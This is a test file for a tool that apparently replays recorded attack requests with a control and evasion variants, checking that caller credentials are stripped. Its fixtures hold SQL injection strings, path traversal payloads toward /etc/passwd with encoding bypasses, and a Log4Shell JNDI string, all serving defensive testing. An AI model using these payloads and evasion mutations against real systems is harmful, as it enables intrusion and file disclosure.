import { ATTACK_CLASS_INFO, type AttackClass, type Excerpt, type Finding } from '@sallyport/core';
import { expect, it } from 'vitest';
import { isPartlyMasked, replayRequests } from './replay-requests.ts';

const at = (point: string, name: AttackClass = 'sqli'): Finding => ({
  ...{ detector: `${name}.test`, class: name, point, severity: 'high', confidence: 0.9, evidence: '', indicators: [] },
  ...ATTACK_CLASS_INFO[name],
});

const excerpt = (target: string, body = '', type = 'application/json'): Excerpt => ({
  target,
  body,
  headers: [
    ['host', 'api.bank.example'],
    ['content-type', type],
    ['authorization', 'Bearer [jwt]'],
    ['cookie', 'sid=[token]'],
    ['x-forwarded-for', '203.0.113.7'],
    ['x-api-key', '[secret]'],
  ],
});

it('sends the attack and mutations of it, and a control, with nothing of the caller', () => {
  const requests = replayRequests(excerpt("/search?q=a'%20union%20select&page=2"), [at('query.q|percent')]);
  expect(requests.map(({ name, target }) => [name, target])).toEqual([
    ['control', '/search?q=x1&page=2'],
    ['recorded', "/search?q=a'%20union%20select&page=2"],
    ['case', "/search?q=A'%20uNiOn%20sElEcT&page=2"],
    ['comments', "/search?q=a'%2F**%2Funion%2F**%2Fselect&page=2"],
    ['line-ends', "/search?q=a'%0Aunion%0Aselect&page=2"],
    ['encoded-twice', "/search?q=a'%2520union%2520select&page=2"],
  ]);
  for (const { headers } of requests) expect(headers).toEqual({ 'content-type': 'application/json' });
});

it('changes members of JSON and fields of forms, and nothing beside them', () => {
  const [control] = replayRequests(excerpt('/pay', '{"items":[{"note":"1 or 1=1"}],"amount":5}'), [at('body.json.items[0].note')]);
  expect(control).toMatchObject({ name: 'control', body: '{"items":[{"note":"x1"}],"amount":5}' });
  const quoted = replayRequests(excerpt('/pay', '{"a.b":"1 or 1"}'), [at('body.json["a.b"]')])[0];
  expect(quoted?.body).toBe('{"a.b":"x1"}');
  const form = replayRequests(excerpt('/pay', 'note=1+or+1&to=ada', 'application/x-www-form-urlencoded'), [at('body.form.note')]);
  expect(form[0]?.body).toBe('note=x1&to=ada');
});

it('changes segments of the path, and what follows the first step up', () => {
  const targets = (target: string, point: string) =>
    Object.fromEntries(replayRequests(excerpt(target), [at(point, 'path-traversal')]).map((one) => [one.name, one.target]));
  expect(targets('/files/..%2f..%2fetc%2fpasswd?raw=1', 'path[1]|percent')).toEqual({
    control: '/files/x1?raw=1',
    recorded: '/files/..%2f..%2fetc%2fpasswd?raw=1',
    'doubled-dots': '/files/....//....//etc/passwd?raw=1',
    'path-parameter': '/files/..;/..;/etc/passwd?raw=1',
    backslashes: '/files/..%5C..%5Cetc%5Cpasswd?raw=1',
    encoded: '/files/%2e%2e%2F%2e%2e%2Fetc%2Fpasswd?raw=1',
    'encoded-twice': '/files/..%2F..%2Fetc%2Fpasswd?raw=1',
  });
  expect(targets('/files/../../etc/passwd', 'path')).toMatchObject({
    control: '/files/x1',
    encoded: '/files/%2e%2e%2F%2e%2e%2Fetc%2Fpasswd',
  });
});

it('sends the header that an attack stood in, never one that says who called', () => {
  const log4shell = {
    ...excerpt('/login'),
    headers: [...excerpt('/login').headers, ['x-device', '${jndi:ldap://x/a}']] as Excerpt['headers'],
  };
  const [control, recorded] = replayRequests(log4shell, [at('header.x-device', 'log4shell'), at('header.x-api-key'), at('header.cookie')]);
  expect(control?.headers).toEqual({ 'content-type': 'application/json', 'x-device': 'x1' });
  expect(recorded?.headers).toEqual({ 'content-type': 'application/json', 'x-device': '${jndi:ldap://x/a}' });
});

it('sends only what was recorded where the place cannot be changed', () => {
  for (const [target, body, point] of [
    ['/files/a', '', 'path[7]'],
    ['/files/a', '', 'path'],
    ['/files', '', 'header.authorization'],
    ['/pay', '{"cut": "of', 'body.json.cut'],
    ['/pay', '{}', 'body.json.__proto__.x'],
  ] as const) {
    expect(replayRequests(excerpt(target, body), [at(point)]).map(({ name }) => name)).toEqual(['recorded']);
  }
});

it('knows where a part of the attack was masked', () => {
  expect(isPartlyMasked(excerpt('/search?card=[pan:…1111]'))).toBe(true);
  expect(isPartlyMasked(excerpt('/search', '{"token":"[jwt]"}'))).toBe(true);
  expect(isPartlyMasked(excerpt('/search?ids[]=1&q=[1,2]', '{"a":[1,2]}'))).toBe(false);
});
